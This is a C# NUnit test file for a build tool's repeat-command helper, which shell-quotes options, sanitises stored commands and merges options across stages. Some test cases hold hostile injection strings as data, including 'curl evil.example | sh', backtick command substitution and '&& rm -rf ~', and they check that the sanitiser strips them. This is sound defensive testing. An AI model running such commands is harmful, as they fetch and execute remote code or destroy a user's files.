using Gauntlet.Build.Cli;

namespace Gauntlet.Build.Tests.Cli;

[TestFixture]
public sealed class RepeatCommandTests
{
    [TestCase("./build.sh --target=Full")]
    [TestCase("./build.sh --target=Full --rate=200 --keep-cluster", "--rate=200", "--keep-cluster")]
    [TestCase("./build.sh --target=Full --threshold='p(95) < 250 ms'", "--threshold=p(95) < 250 ms")]
    [TestCase(@"./build.sh --target=Full --cluster-name='o'\''brien'", "--cluster-name=o'brien")]
    public void Of_WhatWasGiven_IsWhatAShellTakes(string command, params string[] given) =>
        Assert.That(RepeatCommand.Of(given), Is.EqualTo(command));

    [TestCase("--rate=200 --keep-cluster", "--rate=200 --keep-cluster")]
    [TestCase("--threshold='p(95) < 250ms'", "--threshold='p(95) < 250ms'")]
    [TestCase("", "--seed=7; curl evil.example | sh")]
    [TestCase("--cluster=embedded", "--cluster=embedded --rate=`id` --evil=1 --rate=-1 && rm -rf ~")]
    [TestCase("", "--rate=200\n--duration=1s\ncurl evil.example")]
    [TestCase("", "; --keep-clusters --keep-cluster=yes --rate")]
    public void Checked_CommandOfAnArtifact_HasKnownOptionsWithGoodValuesAlone(string expected, string command) =>
        Assert.That(RepeatCommand.Checked("./build.sh --target=Full " + command), Is.EqualTo(("./build.sh --target=Full " + expected).TrimEnd()));

    [TestCase("--cluster=embedded --rate=200", "--cluster=embedded", "--rate=200")]
    [TestCase("--cluster=embedded --rate=1000", "--cluster=embedded --rate=200", "--rate=1000")]
    [TestCase(
        "--rate=200 --threshold='p(99) < 1 s' --threshold='rps > 5'",
        "--threshold='p(95) < 250 ms' --rate=200 --threshold='a '\\''b'",
        "--threshold=p(99) < 1 s", "--threshold=rps > 5")]
    [TestCase("--keep-cluster-name=x --keep-cluster", "--keep-cluster --keep-cluster-name=x", "--keep-cluster")]
    [TestCase("--rate=200", "--rate=200")]
    [TestCase("--seed=7 --requests=500", "--rate=200 --duration=15s --seed=7", "--requests=500")]
    [TestCase("--seed=7 --rate=100", "--requests=500 --seed=7", "--rate=100")]
    [TestCase("--stages=10s:200", "--rate=200", "--stages=10s:200")]
    public void With_OptionsOfALaterStage_TheyReplaceThoseOfTheSameName(string expected, string before, params string[] given) =>
        Assert.That(RepeatCommand.With("./build.sh --target=Full " + before, given), Is.EqualTo("./build.sh --target=Full " + expected));
}
